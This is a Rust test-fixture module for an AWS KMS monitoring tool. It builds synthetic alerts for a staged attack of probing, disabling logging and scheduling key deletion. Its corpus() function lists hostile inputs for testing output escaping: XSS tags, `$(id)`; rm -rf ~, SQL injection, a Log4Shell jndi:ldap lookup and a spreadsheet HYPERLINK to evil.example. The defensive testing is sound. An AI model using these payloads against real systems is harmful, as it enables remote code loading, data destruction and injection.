//! Alerts for the tests of formats.

use crate::{Alert, Context, Digest};
use kmswatch_engine::finding::{Actor, Finding, FindingKind, KeyName, Severity, Span, Technique, finding_id};
use kmswatch_engine::incident::{Incident, Member, incidents};
use kmswatch_engine::settings::Settings;
use kmswatch_engine::time::Timestamp;
use kmswatch_engine::tuning::RuleUse;
use serde_json::json;
use std::collections::BTreeSet;

const KEY: &str = "arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab";

pub(crate) fn context() -> Context {
    Context { now: at("2026-05-08T12:00:00Z"), version: "0.1.0".to_owned(), ..Context::default() }
}

fn at(text: &str) -> Timestamp {
    Timestamp::parse(text).unwrap()
}

fn finding(detector: &'static str, minute: i64, severity: Severity, title: &str) -> Finding {
    let start = at("2026-05-04T10:15:42Z").plus(60 * minute);
    let detector_of = kmswatch_engine::detectors::ALL.iter().find(|known| known.id == detector).unwrap();
    let mut finding = kmswatch_engine::finding::of_key(detector_of, KEY, &[title]);
    finding.evidence.add(start, &format!("0b8f5a2e-2f0e-4d0c-8f4b-{minute:012}"));
    finding.time = Span { start, end: start };
    finding.severity = severity;
    finding.title = title.to_owned();
    finding.key = Some(KeyName { aliases: vec!["alias/payments".to_owned()], ..KeyName::of_arn(KEY) });
    finding.principal = Some(Actor {
        id: "arn:aws:iam::111122223333:role/ci-deploy".to_owned(),
        kind: "role",
        account: Some("111122223333".to_owned()),
        session: Some("gha-4763469".to_owned()),
        access_key: Some("ASIAEXAMPLE".to_owned()),
        source: Some("203.0.113.215".to_owned()),
        user_agent: Some("aws-sdk-go/1.55.5 (go1.22.5; linux; amd64)".to_owned()),
        ..Actor::default()
    });
    finding.explanation = "Somebody tries out what the credentials reach.".to_owned();
    finding.evidence.details.insert("operation", json!("ScheduleKeyDeletion"));
    finding
}

fn story() -> Vec<Finding> {
    let mut denied = finding(
        "unusual_denials",
        0,
        Severity::Medium,
        "role/ci-deploy: 40 denied calls within an hour, usually none",
    );
    denied.key = None;
    denied.evidence.observed = Some(40.0);
    denied.evidence.expected = Some(0.25);
    denied.evidence.probability = Some(1.2e-9);
    denied.runbook = vec!["Ask the owner of role/ci-deploy.".to_owned()];
    let blinded = {
        let mut blinded =
            finding("trail_blinded", 20, Severity::High, "org-trail no longer logs any KMS events");
        blinded.key = None;
        blinded.runbook = vec!["Log all management events again: aws cloudtrail put-event-selectors --trail-name org-trail --event-selectors '[{\"ReadWriteType\":\"All\",\"IncludeManagementEvents\":true}]' --region eu-west-1".to_owned()];
        blinded
    };
    let mut deletion = finding(
        "key_deletion_scheduled",
        90,
        Severity::Critical,
        "alias/payments will be deleted on 2026-05-11",
    );
    let details = &mut deletion.evidence.details;
    details.insert("window_days", json!(7));
    details.insert("deletion_date", json!("2026-05-11T11:45:42Z"));
    details.insert("last_used", json!("2026-05-04T09:58:00Z"));
    details.insert(
        "used_by",
        json!([{"principal": "arn:aws:iam::111122223333:role/payments-api", "via": "s3"}]),
    );
    details.insert("used_by_count", json!(1));
    details.insert("resources", json!({"object": 412}));
    deletion.runbook = vec![
        format!("Stop the deletion: aws kms cancel-key-deletion --key-id {KEY} --region eu-west-1"),
        format!("Make the key usable again: aws kms enable-key --key-id {KEY} --region eu-west-1"),
        format!("See its state: aws kms describe-key --key-id {KEY} --region eu-west-1"),
    ];
    vec![denied, blinded, deletion]
}

fn one_incident(findings: Vec<Finding>) -> Incident {
    let members = findings.into_iter().map(|finding| Member { finding, muted: false });
    let mut incidents = incidents(members, &Settings::default(), context().now, &BTreeSet::new());
    assert_eq!(incidents.len(), 1);
    incidents.remove(0)
}

/// An incident: probing, blinding, destruction.
pub(crate) fn attack() -> Alert {
    Alert::of_incident(&one_incident(story()))
}

/// A finding of a rule, and one of statistics.
pub(crate) fn findings() -> [Alert; 2] {
    let mut story = story();
    let (deletion, denied) = (story.remove(2), story.remove(0));
    [Alert::of_finding(&deletion), Alert::of_finding(&denied)]
}

/// An incident of statistics alone, with all that their evidence holds.
pub(crate) fn unusual() -> Alert {
    let mut denied = story().remove(0);
    let details = &mut denied.evidence.details;
    details.insert("entity", json!("arn:aws:iam::111122223333:role/ci-deploy"));
    details.insert("until", json!("2026-05-04T11:00:00Z"));
    details.insert("c", json!(6.4));
    details.insert("others", json!(["arn:aws:iam::111122223333:role/ci-deploy: 13 dry runs, usually none"]));
    details.insert("first_uses", json!([{"what": "network", "value": "203.0.113.0/24", "peers": null}]));
    Alert::of_incident(&one_incident(vec![denied]))
}

/// A digest in which everything comes from `text`, in `n` copies.
pub(crate) fn digest(text: &str, n: usize) -> Digest {
    let incident = |at: usize| {
        let mut incident = one_incident(story());
        incident.id = format!("ki-{at}");
        incident.title = format!("Key {text} was used");
        incident
    };
    let rule = |expired| RuleUse {
        kind: "suppression",
        reason: text.to_owned(),
        owner: text.to_owned(),
        expires: at("2026-05-04T00:00:00Z"),
        expired,
        muted: 3,
    };
    let incidents: Vec<Incident> = (0..n).map(incident).collect();
    let (from, to) = (at("2026-05-01T00:00:00Z"), context().now);
    let mut digest = Digest::of(&story(), &incidents, &Settings::default(), from, to);
    digest.muting = vec![rule(false); n];
    digest.useless = vec![rule(true); n];
    digest.muted = 3 * n as u64;
    digest.staged.insert("root_use", 2);
    digest
}

/// A finding with as little in it as there can be.
pub(crate) fn bare() -> Alert {
    let mut bare = finding("root_use", 0, Severity::Info, "");
    bare.kind = FindingKind::Fact;
    (bare.principal, bare.key) = (None, None);
    (bare.account, bare.region) = (String::new(), String::new());
    bare.explanation = String::new();
    bare.evidence.details = Default::default();
    bare.mitre = &[];
    Alert::of_finding(&bare)
}

/// A very large incident: hundreds of keys and principals.
pub(crate) fn large() -> Alert {
    let many = (0..400).map(|n| {
        let mut deletion = story().remove(2);
        let arn = format!("arn:aws:kms:eu-west-1:111122223333:key/{n:08}-12ab-34cd-56ef-1234567890ab");
        deletion.id = finding_id("large", &[&arn]);
        deletion.runbook = vec![format!("Stop the deletion: aws kms cancel-key-deletion --key-id {arn}")];
        deletion.key =
            Some(KeyName { aliases: vec![format!("alias/{}", "long-".repeat(40))], ..KeyName::of_arn(&arn) });
        let name = format!("arn:aws:iam::111122223333:role/{}-{n}", "r".repeat(50));
        if n > 0 {
            deletion.principal = deletion.principal.map(|actor| Actor { id: name, ..actor });
            // One key is common to all, so that they are one incident.
            deletion.evidence.details.insert("keys", json!([KEY]));
        } else {
            deletion.key = Some(KeyName::of_arn(KEY));
        }
        deletion
    });
    Alert::of_incident(&one_incident(many.collect()))
}

/// Texts that attackers write into logs.
pub(crate) fn corpus() -> Vec<String> {
    let mut corpus: Vec<String> = [
        "\x1b[2J\x1b]0;owned\x07\u{9b}31m",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "[click here](https://evil.example/login) ![x](http://evil.example/p.png)",
        "<!channel> <!here> <!everyone> <@U012AB3CD> <https://evil.example|console.aws.amazon.com>",
        "@channel @here @everyone @all",
        "moc.live\u{202e}gnp.exe\u{2066}\u{200b}\u{feff}\u{ad}",
        "a\nCRITICAL: forged\r\nSubject: forged\nBcc: x@evil.example\n\n",
        "\0\u{1}\u{7f}\t\u{b}\u{c}\u{85}\u{2028}\u{2029}",
        "`$(id)`; rm -rf ~ ' \" \\ ' OR '1'='1' --",
        "*bold* _italic_ ~strike~ ```code``` > quote\n# heading\n| a | b |",
        "Z\u{335}\u{321}\u{334}\u{340}".repeat(20).as_str(),
        "&lt;b&gt; &amp;amp; %3Cscript%3E {{7*7}} ${jndi:ldap://evil.example/a}",
        "=HYPERLINK(\"http://evil.example\",\"x\") +1+1 @SUM(1)",
        "\u{e0041}\u{e0042}\u{fff9}x\u{fffa}y\u{fffb}",
        "",
        " ",
    ]
    .map(str::to_owned)
    .to_vec();
    corpus.push("\u{1f600}".repeat(25_000));
    corpus.push(format!("arn:aws:kms:eu-west-1:111122223333:key/{}", "x".repeat(100_000)));
    corpus.push("<!channel>\x1b[31m\u{202e}https://evil.example ".repeat(2_500));
    corpus
}

/// An incident and a finding all of whose text somebody hostile chose.
pub(crate) fn hostile(nasty: &str) -> [Alert; 2] {
    let with = |mut finding: Finding| {
        finding.title = format!("Key {nasty} was used");
        finding.explanation = format!("It was {nasty}.");
        finding.account = nasty.to_owned();
        finding.region = nasty.to_owned();
        finding.runbook = vec![
            format!("Ask {nasty}."),
            format!("Undo it: {}", kmswatch_engine::runbook::aws("kms enable-key", &[("key-id", nasty)])),
        ];
        let text = || Some(nasty.to_owned());
        finding.principal = Some(Actor {
            id: nasty.to_owned(),
            kind: "unknown",
            account: text(),
            session: text(),
            access_key: text(),
            via_service: text(),
            source_identity: text(),
            source: text(),
            user_agent: text(),
        });
        finding.key = Some(KeyName {
            arn: nasty.to_owned(),
            aliases: vec![nasty.to_owned(); 60],
            account: text(),
            region: text(),
        });
        finding.evidence.add(finding.time.start, nasty);
        for name in ["operation", "last_used", "deletion_date"] {
            finding.evidence.details.insert(name, json!(nasty));
        }
        finding.evidence.details.insert("used_by", json!([{"principal": nasty}]));
        finding.evidence.details.insert("resources", json!({nasty: 3}));
        finding.evidence.details.insert("siblings", json!([nasty]));
        finding.mitre = &[Technique { id: "T1485", name: "Data Destruction" }];
        finding
    };
    let mut story: Vec<Finding> = story().into_iter().map(with).collect();
    for finding in &mut story {
        // Empty names tie nothing together.
        finding.account = "111122223333".to_owned();
    }
    let members = story.iter().map(|finding| Member { finding: finding.clone(), muted: false });
    let incidents = incidents(members, &Settings::default(), context().now, &BTreeSet::new());
    let mut single = story.remove(2);
    single.account = nasty.to_owned();
    [Alert::of_incident(&incidents[0]), Alert::of_finding(&single)]
}
